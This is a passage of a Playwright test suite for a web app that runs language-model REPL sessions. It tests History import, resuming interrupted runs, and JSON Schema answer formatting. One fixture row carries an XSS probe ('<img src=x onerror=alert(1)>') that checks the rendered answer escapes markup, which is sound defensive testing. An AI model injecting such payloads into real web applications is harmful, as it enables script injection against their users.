  await expect(page.locator('.cell .output').first()).toHaveText('7421\n');
  await expect(page.locator('details.subcall summary')).toContainText('gpt-5-mini');
  await expect(page.locator('.answer')).toContainText('7421');
  await expect(page.locator('#history-list .history-open')).toHaveCount(1);
  await shot(page, testInfo, '18-laptop-light-imported-reference-log');

  // Not a log at all: said plainly, nothing imported.
  await page.locator('#import-file').setInputFiles({ name: 'notes.jsonl', mimeType: 'application/x-ndjson', buffer: Buffer.from('hello\nworld\n') });
  await expect(page.locator('#history-status')).toContainText('Could not import notes.jsonl');
  await expect(page.locator('#history-list .history-open')).toHaveCount(1);
});

test('History: Resume continues a run whose tab closed, replaying its cells without model calls', async ({ page, context, demo, lm }, testInfo) => {
  let hold = true;
  lm.setScript((request) => {
    if (!isRootCall(request)) return `twice is ${Number(/\d+/.exec(lastUser(request))?.[0]) * 2}`;
    if (turnOf(request) === 0) return repl('x = len(context)\nprint("length", x)', 'Measuring.');
    if (turnOf(request) === 1) return repl('y = llm_query(f"double {x}")\nprint(y)', 'Asking.');
    return hold ? { content: 'never seen', delayMs: 120_000 } : repl('answer["content"] = f"Length {x}, {y}."\nanswer["ready"] = True', 'Done.');
  });
  await page.setViewportSize(LAPTOP);
  await open(page, demo);
  await configureLocal(page, lm);
  await page.getByLabel('Context text').fill('thirteen ch.');
  await page.getByLabel('Question').fill('Resume me');
  await run(page).click();
  const entry = page.locator('#history-list .history-item', { hasText: 'Resume me' });
  await expect(entry).toContainText('2 iterations');
  await expect.poll(() => lm.requests.filter(isRootCall).length).toBe(3);
  await page.close();

  hold = false;
  lm.requests.length = 0;
  const next = await context.newPage();
  await next.setViewportSize(LAPTOP);
  await open(next, demo);
  await openSettings(next);
  await next.getByLabel('API key').fill('test-key');
  const item = next.locator('#history-list .history-item', { hasText: 'Resume me' });
  await expect(item.locator('.status')).toHaveText('interrupted');
  await item.locator('.history-resume').click();
  await expect(next.locator('.answer')).toContainText('Length 12, twice is 24.');
  await expect(next.locator('.run .status')).toHaveText('Done');
  await expect(next.locator('.iteration')).toHaveCount(3);
  await expect(next.locator('.iteration').first().locator('.cell .output')).toContainText('length 12');
  // One model call: turn 3. The two saved cells (and their sub-call) were replayed from History.
  expect(lm.requests.map((r) => (isRootCall(r) ? `root ${turnOf(r)}` : 'sub'))).toEqual(['root 2']);
  await expect(item.locator('.status')).toHaveText('done');
  await expect(item.locator('.history-resume')).toHaveCount(0);
  await shot(next, testInfo, '11-laptop-light-resumed');
});

test('an answer format (JSON Schema): invalid JSON is refused before any request; a list of objects shows as a table, nested data as a tree, as text', async ({ page, demo, lm }) => {
  const rows = '[{"line": 3, "level": "ERROR", "text": "<img src=x onerror=alert(1)> disk full"}, {"line": 9, "level": "WARN", "text": "slow"}]';
  const nested = '{"verdict": "broken", "evidence": {"lines": [3, 9], "first": {"level": "ERROR"}}}';
  let reply = rows;
  lm.setScript((request) => (isRootCall(request) ? repl(`import json\nanswer["content"] = json.loads(${JSON.stringify(reply)})\nanswer["ready"] = True`) : 'unused'));
  await open(page, demo);
  await configureLocal(page, lm);
  await page.getByLabel('Context text').fill('line 3: ERROR disk full\nline 9: WARN slow');
  await page.getByLabel('Question').fill('List the problems.');
  const format = page.getByLabel('Answer format (JSON Schema, optional)');

  await openSettings(page);
  await format.fill('{"type": "array", items: {}}');
  await run(page).click();
  await expect(page.locator('#form-error')).toContainText('The answer format is not valid JSON');
  await expect(format).toBeFocused();
  expect(lm.requests).toHaveLength(0);

  await openSettings(page);
  await format.fill(JSON.stringify({ type: 'array', items: { type: 'object', properties: { line: { type: 'integer' }, level: { type: 'string' }, text: { type: 'string' } }, required: ['line', 'level', 'text'] } }));
  await run(page).click();
  const table = page.locator('.answer table');
  await expect(table.locator('th')).toHaveText(['line', 'level', 'text']);
  await expect(table.locator('tbody tr')).toHaveCount(2);
  await expect(table.locator('tbody tr').first().locator('td')).toHaveText(['3', 'ERROR', '<img src=x onerror=alert(1)> disk full']);
  await expect(page.locator('.answer img')).toHaveCount(0);
  await expect(page.locator('#form-error')).toBeHidden();
  // The schema went to the model with the run (the system prompt tells it the shape).
  expect(JSON.stringify(lm.requests[0]!.body)).toContain('integer');

  reply = nested;
  await openSettings(page);
  await format.fill(JSON.stringify({ type: 'object', properties: { verdict: { type: 'string' }, evidence: { type: 'object' } }, required: ['verdict', 'evidence'] }));
  await run(page).click();
  const tree = page.locator('.answer .structured-tree').first();
  await expect(tree).toContainText('verdict broken');
  await expect(tree.locator('.structured-key')).toContainText(['verdict', 'evidence', 'lines', '[0]', '[1]', 'first', 'level']);
  await expect(page.locator('.answer table')).toHaveCount(0);
});
